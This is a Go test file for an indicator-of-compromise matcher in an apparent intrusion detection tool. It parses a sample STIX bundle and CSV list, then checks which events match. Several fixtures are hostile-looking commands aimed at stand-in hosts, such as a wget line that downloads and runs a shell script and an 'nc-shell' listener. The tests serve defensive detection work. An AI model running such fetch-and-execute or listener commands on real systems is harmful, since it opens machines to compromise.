package ioc

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

const bundle = `{"type":"bundle","id":"bundle--1","objects":[
{"type":"identity","id":"identity--1","name":"Partner CERT"},
{"type":"indicator","id":"indicator--1","name":"C2 of March","created_by_ref":"identity--1","indicator_types":["malicious-activity"],
 "pattern_type":"stix","pattern":"[ipv4-addr:value = '203.0.113.9' OR domain-name:value = 'evil.example'] OR [file:hashes.'SHA-256' = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA']","valid_from":"2026-03-01T00:00:00Z","valid_until":"2026-04-01T00:00:00Z"},
{"type":"indicator","id":"indicator--2","pattern":"[process:command_line MATCHES 'x']","pattern_type":"stix"},
{"type":"indicator","id":"indicator--3","pattern":"[ipv4-addr:value ISSUBSET '198.51.100.0/24']","indicator_types":["anonymization"]},
{"type":"indicator","id":"indicator--4","pattern":"[a:b = '1'] AND [c:d = '2']"},
{"type":"indicator","id":"indicator--5","pattern":"[url:value = 'http://evil.example/x']","revoked":true}
]}`

const lines = `type,value,id,level,valid_until
# a comment
ip-dst,192.0.2[.]7,i-1,critical,
url,hxxp://Drop.Example:80/a/B.sh,i-2,high,
filename,C:\Temp\Evil Tool.exe,i-3,,
filename,nc-shell,i-4,,
email,Boss@Partner.Example,i-5,low,
,2001:db8::5,i-6,,
md5,zz,i-7,,
ip,300.1.1.1,i-8,,
colour,red,i-9,,
domain,old.example,i-10,low,2026-01-01
hash,5f4dcc3b5aa765d61d8327deb882cf99,i-11,nonsense,
`

func parsed(t *testing.T) (*Lists, []string) {
	t.Helper()
	a, f := Parse("lists/partner.json", []byte(bundle))
	b, g := Parse("lists/own.csv", []byte(lines))
	l, more := New(slices.Concat(a, b))
	var faults []string
	for _, x := range slices.Concat(f, g, more) {
		faults = append(faults, fmt.Sprintf("%s:%d", x.Source, x.Line))
		if x.Hint == "" || x.Err == nil {
			t.Errorf("%v does not say what to do", x)
		}
	}
	return l, faults
}

func TestParse(t *testing.T) {
	l, faults := parsed(t)
	want := []string{"lists/partner.json:5", "lists/partner.json:7", "lists/own.csv:9", "lists/own.csv:10", "lists/own.csv:11", "lists/own.csv:13"}
	if !slices.Equal(faults, want) {
		t.Errorf("faults at %v, want %v", faults, want)
	}
	r := l.Rules()[0]
	if r.ID != "indicator--1" || r.Title != "Partner CERT: C2 of March" || r.Level != tocsin.High || r.Line != 3 || !strings.Contains(r.Description, "Valid from 2026-03-01T00:00:00Z until 2026-04-01T00:00:00Z") {
		t.Errorf("%+v", r)
	}
	for _, bad := range []string{"", "{", "[1,2]", `{"type":"bundle"}`, "type,value\n", `{"objects":[{"type":7}]}`} {
		if all, f := Parse("x", []byte(bad)); len(all) > 0 || len(f) == 0 && bad != "" && bad != "type,value\n" {
			t.Errorf("%q: %d indicators, faults %v", bad, len(all), f)
		}
	}
}

func TestMatch(t *testing.T) {
	l, _ := parsed(t)
	at := time.Date(2026, 3, 20, 0, 0, 0, 0, time.UTC)
	for _, tt := range []struct{ field, value, want string }{
		{"src_ip", "203.0.113.9", "indicator--1"},
		{"message", "connect to 203.0.113.9:443 failed", "indicator--1"},
		{"query", "WWW.Evil.Example.", "indicator--1"},
		{"CommandLine", "curl https://cdn.evil.example/x", "indicator--1"},
		{"Hashes", "SHA256=" + strings.Repeat("A", 64) + ",MD5=x", "indicator--1"},
		{"src_ip", "198.51.100.77", "indicator--3"},
		{"src_ip", "198.51.101.77", ""},
		{"CommandLine", "wget -q http://drop.example/a/B.sh; sh B.sh", "i-2"},
		{"url", "https://drop.example/a/b.sh", ""},
		{"Image", `D:\x\evil tool.exe`, "i-3"},
		{"CommandLine", "/tmp/nc-shell -l", "i-4"},
		{"CommandLine", "/tmp/nc-shell2 -l", ""},
		{"to", "<boss@partner.example>", "i-5"},
		{"to", "notboss@partner.example", ""},
		{"src_ip", "2001:db8:0::5", "i-6"},
		{"query", "notevil.example", ""},
		{"query", "old.example", ""}, // no longer valid
	} {
		ev := &tocsin.Event{Time: at}
		ev.Add(tt.field, tt.value)
		got := ""
		l.Match(ev, func(i int) {
			got += l.Rules()[i].ID
			held := l.Held(ev, i)
			if len(held) < 3 || held[0].Name != tt.field || !slices.Contains(held, tocsin.Field{Name: "indicator_list", Value: l.all[i].List}) {
				t.Errorf("%s: held %v", tt.value, held)
			}
		})
		if got != tt.want {
			t.Errorf("%s=%s: %q, want %q", tt.field, tt.value, got, tt.want)
		}
	}
	if l.Late() != 1 {
		t.Errorf("%d indicators met too late", l.Late())
	}
	ev := &tocsin.Event{Raw: "something about 192.0.2.7"}
	n := 0
	l.Match(ev, func(int) { n++ })
	ev = &tocsin.Event{}
	ev.Add("cs-host", "drop.example")
	ev.Add("cs-uri", "/a/B.sh")
	l.Match(ev, func(int) { n++ })
	if n != 2 {
		t.Errorf("%d matches of a record without fields and of a request", n)
	}
}

// The cost of an event does not hang on the number of indicators.
func BenchmarkMatch(b *testing.B) {
	for _, n := range []int{10, 1000, 100_000} {
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			var all []Indicator
			for i := range n {
				all = append(all, Indicator{Type: "domain", Value: fmt.Sprintf("d%d.example", i)}, Indicator{Type: "address", Value: fmt.Sprintf("10.%d.%d.%d", i>>16, i>>8&255, i&255)})
			}
			l, _ := New(all)
			ev := &tocsin.Event{}
			ev.Add("src_ip", "203.0.113.9")
			ev.Add("CommandLine", "curl -s https://www.partner.example/a/b/c.sh -o /tmp/c.sh")
			ev.Add("message", "a text of a few words without anything in it")
			for b.Loop() {
				l.Match(ev, func(int) { b.Fatal("found") })
			}
		})
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(bundle))
	f.Add([]byte(lines))
	f.Fuzz(func(t *testing.T, data []byte) {
		all, faults := Parse("x", data)
		for _, x := range faults {
			if x.Line < 0 || x.Line > int64(strings.Count(string(data), "\n")+2) {
				t.Errorf("a fault on line %d", x.Line)
			}
		}
		l, _ := New(all)
		ev := &tocsin.Event{Raw: string(data)}
		l.Match(ev, func(i int) { l.Held(ev, i) })
	})
}
